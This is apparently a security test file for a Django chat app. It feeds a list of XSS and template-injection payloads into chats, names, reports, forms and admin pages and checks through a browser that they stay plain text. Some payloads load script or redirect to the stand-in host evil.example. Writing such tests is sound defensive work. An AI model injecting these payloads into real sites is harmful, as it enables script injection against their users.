"""Everything that people can type, with payloads, on the pages that show it: no dialog, no broken rule, no new element."""

import json

import pytest
from django.core.cache import cache
from django.test import Client

from chat import claiming, lines
from motesplats.models import Report, User
from tests import make, roles
from tests.emptying import empty_database

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.timeout(300)]
PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example><button>x",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x", "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>", "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover=alert(1) x="', "' onfocus=alert(1) autofocus x='", "` onerror=alert(1)",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>",
    "<!--<script>alert(1)//-->", "<![CDATA[<script>alert(1)</script>]]>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "\\u003cscript\\u003ealert(1)", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{7*7}}{% debug %}${7*7}#{7*7}",
    "%3Cscript%3Ealert(1)%3C/script%3E", "{name}{at}{0.__class__}", "%(name)s %s %%", "＜script＞alert(1)＜/script＞", "<x data-xss onclick=alert(1)>",
]  # fmt: skip
ALL = "\n".join(PAYLOADS)
WATCH = """window.broken = [];
addEventListener("securitypolicyviolation", (event) => window.broken.push(event.violatedDirective + " " + event.blockedURI));"""
# Names of elements and of their attributes: what a text must never add to.
SHAPE = "[...document.querySelectorAll('*')].map((one) => one.tagName + ' ' + one.getAttributeNames().sort().join(' '))"


class Watched:
    """A page that remembers dialogs, broken rules and requests to others."""

    def __init__(self, page, base: str):
        self.page, self.base, self.bad = page, base, []
        page.add_init_script(WATCH)
        page.on("dialog", self._dialog)
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.bad.append(f"error: {error}"))
        page.on("request", lambda request: self._request(request.url))

    def _dialog(self, dialog):
        self.bad.append(f"dialog on {self.page.url}")
        dialog.dismiss()

    def _console(self, message):
        if "Content Security Policy" in message.text or "Refused to" in message.text:
            self.bad.append(f"{self.page.url}: {message.text}")

    def _request(self, url):
        if not url.startswith((self.base, "data:", "ws:")):
            self.bad.append(f"asked {url}")

    def become(self, key: str) -> None:
        self.page.context.clear_cookies()
        self.page.context.add_cookies([{"name": "session", "value": key, "url": self.base}])

    def shape(self, path: str) -> list[str]:
        answer = self.page.goto(f"{self.base}{path}")
        assert answer.status in (200, 400), (path, answer.status)
        assert self.page.url == f"{self.base}{path}", path
        self.bad += self.page.evaluate("window.broken")
        return self.page.evaluate(SHAPE)


@pytest.fixture
def watched(new_page, live_server):
    cache.clear()
    return Watched(new_page(width=800), live_server.url)


def house_of(texts: list[str]):
    """Chats, questions, reports and people, with `texts` as what was typed."""
    bjorn = make.volunteer("Björn")
    talk = make.claimed(bjorn, need=texts[0])
    for number, said in enumerate(texts):
        make.message(make.helper_of(talk), said)
        lines.add(talk, "claimed", occasion=str(number), name=said[:80])
        make.conversation(make.user("Samir"), need=said, ad=said)
        owner = make.user("Amina")
        User.objects.filter(pk=owner.pk).update(display_name=said[:80])
        own = make.conversation(owner, need=said)
        claiming.claim(own.request, bjorn, pace=claiming.Pace.TONIGHT)
        Report.objects.create(text=said, title=said[:120], reporter=owner)
    applied = make.volunteer("Nils", state="applied", approved_at=None, motivation="\n".join(texts)[:2000])
    User.objects.filter(pk=applied.user_id).update(display_name=texts[0][:80])
    report = Report.objects.create(text="\n".join(texts)[:2000])
    return talk, bjorn, applied, report, own


def pages_of(house) -> dict[str, list[str]]:
    """session -> the pages that show what others typed."""
    talk, bjorn, applied, report, own = house
    chat = f"/chatt/{talk.request.public_id}/"
    staff = make.staff()
    admin = "/admin/"
    return {
        roles.session_of(talk.request.owner): [chat, f"{chat}?fore=60", f"{chat}utskrift/", f"{chat}lage/", "/mina-fragor/"],
        roles.session_of(bjorn.user): ["/jour/", "/jour/lista/", chat, f"/chatt/{own.request.public_id}/", f"/chatt/{own.request.public_id}/avsluta/"],
        roles.session_of(own.request.owner): ["/konto/", f"/chatt/{own.request.public_id}/"],
        roles.session_of(staff, has_shown_key=True): [
            admin, f"{admin}motesplats/user/", f"{admin}motesplats/report/", f"{admin}motesplats/report/{report.pk}/change/",
            f"{admin}volunteers/volunteer/", f"{admin}volunteers/volunteer/{applied.pk}/change/", f"{admin}seekers/helprequest/",
        ],
    }  # fmt: skip


def test_what_people_type_stays_text(watched):
    make.office()
    shapes = []
    for texts in (["Hej du"] * len(PAYLOADS), PAYLOADS):
        pages = pages_of(house_of(texts))
        seen = []
        for key, paths in pages.items():
            watched.become(key)
            seen += [(number, watched.shape(path)) for number, path in enumerate(paths)]
        shapes.append(seen)
        _empty()
    assert len(PAYLOADS) > 40
    assert watched.bad == []
    for (number, plain), (_same, evil) in zip(*shapes, strict=True):
        assert evil == plain, number


def _empty() -> None:
    empty_database()
    cache.clear()
    make.office()


def test_each_name_stays_text_in_the_chat(watched):
    """The name of the one who asked stands in the head, the title and the attributes of the volunteer's page."""
    make.office()
    bjorn = make.volunteer("Björn")
    talk = make.claimed(bjorn)
    watched.become(roles.session_of(bjorn.user))
    path = f"/chatt/{talk.request.public_id}/"
    plain = watched.shape(path)
    for payload in PAYLOADS:
        User.objects.filter(pk=talk.request.owner_id).update(display_name=payload[:80])
        assert watched.shape(path) == plain, payload
        assert watched.page.inner_text("h1") == payload[:80], payload
    assert watched.bad == []


def test_what_comes_by_socket_stays_text(watched):
    """The page's own script puts messages and system lines in place."""
    make.office()
    talk = make.claimed(make.volunteer("Björn"))
    watched.become(roles.session_of(talk.request.owner))
    watched.shape(f"/chatt/{talk.request.public_id}/")
    put = """async ([kind, bodies]) => {
      const { Log } = await import("/static/chat/log.js");
      const log = new Log(document.querySelector("[data-chat]"));
      bodies.forEach((said, at) => log.show({ seq: 1000 + at, side: kind === "text" ? "volunteer" : "system", cid: `x${at}${kind}`, kind,
        body: kind === "text" ? said : { code: "claimed", name: said }, at: "2026-11-24T20:30:00Z" }));
      const made = [...document.querySelectorAll("[data-log] > li")].filter((one) => Number(one.dataset.seq) >= 1000);
      const found = [made.map((one) => one.querySelector("p, bdi").textContent), [...new Set(made.flatMap((one) => [...one.querySelectorAll("*")].map((x) => x.tagName)))].sort()];
      made.forEach((one) => one.remove());
      return found;
    }"""
    texts, tags = watched.page.evaluate(put, ["text", PAYLOADS])
    assert texts == PAYLOADS
    assert set(tags) <= {"P", "SMALL", "TIME", "FORM", "INPUT", "BUTTON"}
    texts, tags = watched.page.evaluate(put, ["system", PAYLOADS])
    assert all(payload in text for payload, text in zip(PAYLOADS, texts, strict=True))
    assert tags == ["BDI"]
    assert watched.bad == [] == watched.page.evaluate("window.broken")


FORMS = [
    ("/fel/", {"text": f"{ALL}\x07"}),
    ("/konto/logga-in/", {"email": ALL}),
    ("/konto/logga-in/", {"email": '"<script>alert(1)</script>"@example.org'}),
    ("/fraga/", {"topic": ALL}),
    ("/fraga/annons/", {"ad": ALL * 3}),
    ("/fraga/nar/", {"need": ALL * 3, "when": ALL}),
    ("/fraga/sprak/", {"languages": PAYLOADS, "swedish_level": ALL}),
    ("/fraga/du/", {"name": ALL, "email": ALL, "is_adult": ALL}),
    ("/fel/?sida=" + "%22%3E%3Cscript%3Ealert(1)%3C/script%3E", {"page": ALL}),
]


def test_what_is_typed_again_stays_text(watched):
    """A form that is refused comes back with what was typed in it; the browser reads it as text."""
    make.office()
    client = Client()
    client.post("/fraga/", {"topic": "cv"})
    for path, data in FORMS:
        answer = client.post(path, data, follow=True)
        assert answer.status_code == 200, path
        _show(watched, answer.content)
        assert (
            watched.page.evaluate(
                "document.querySelectorAll('script:not([src]), iframe, svg[onload], x, body[onload], [onerror], [data-xss]').length"
            )
            == 0
        ), path
    forged = Client(enforce_csrf_checks=True).post(
        "/fel/", {"text": ALL, '"><script>alert(1)</script>': ALL}, headers={"sec-fetch-site": "same-origin"}
    )
    _show(watched, forged.content)
    assert watched.bad == []


def _show(watched, html: bytes) -> None:
    """The answer as the browser would have got it, with the house's own policy."""
    policy = Client().get("/fel/")["Content-Security-Policy"]
    url = f"{watched.base}/shown/"
    watched.page.route(
        url,
        lambda route: route.fulfill(
            body=html, headers={"content-type": "text/html; charset=utf-8", "content-security-policy": policy}
        ),
    )
    watched.page.goto(url)
    watched.bad += watched.page.evaluate("window.broken")
    watched.page.unroute(url)


def test_a_hole_would_be_seen(watched):
    _show(watched, b"<script>alert(1)</script><img src=x onerror=alert(1)>")
    assert json.dumps(watched.bad).count("script-src") >= 2
